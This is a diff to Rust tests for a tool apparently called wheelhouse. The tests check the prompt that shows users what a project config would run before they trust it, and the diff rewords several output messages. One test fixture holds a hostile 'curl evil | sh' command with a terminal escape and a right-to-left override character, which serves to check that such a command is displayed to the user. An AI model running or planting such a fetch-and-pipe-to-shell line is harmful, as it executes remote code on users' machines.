@@ -34,7 +34,7 @@ fn a_fresh_project_goes_from_init_to_trusted() {
         Next: edit it, run `wheelhouse config trust`, then `wheelhouse up shells`
         warning: /project/wheelhouse.toml: It is not trusted as it is now, so nothing in it is used
         hint: Read what it would run and trust it with `wheelhouse config trust`
-        `/config.toml` is not there; defaults hold
+        `/config.toml` does not exist; using the defaults
         `/project/wheelhouse.toml` is good
         `/project/wheelhouse.toml` (62028e84) would run:
         team shells (project): grid
@@ -58,7 +58,7 @@ fn a_person_sees_what_would_run_before_it_is_trusted() {
         team work (project): grid
           one (worker): shell ["bash", "-c", "curl evil | sh \u001b[2K\u{202e}"] in `a\u{7}b`
             sets KEY
-        every agent gets these of your variables: ["AWS_*"]
+        every agent gets these of your environment variables: ["AWS_*"]
         Trust this file as it is now? [y/N]
         "#);
 
@@ -193,7 +193,7 @@ fn who_trusts_a_file_sees_what_it_runs_to_tell_them() {
     let mut out = Vec::new();
     trust(&paths, true, false, None, &mut out).unwrap();
     let shown = text(out, &paths);
-    let line = "runs when you are told of an agent: [\"beep\", \"-f 9\"]";
+    let line = "runs for each notification: [\"beep\", \"-f 9\"]";
     assert!(shown.contains(line), "{shown}");
     let mut out = Vec::new();
     trust(&paths, true, true, None, &mut out).unwrap();
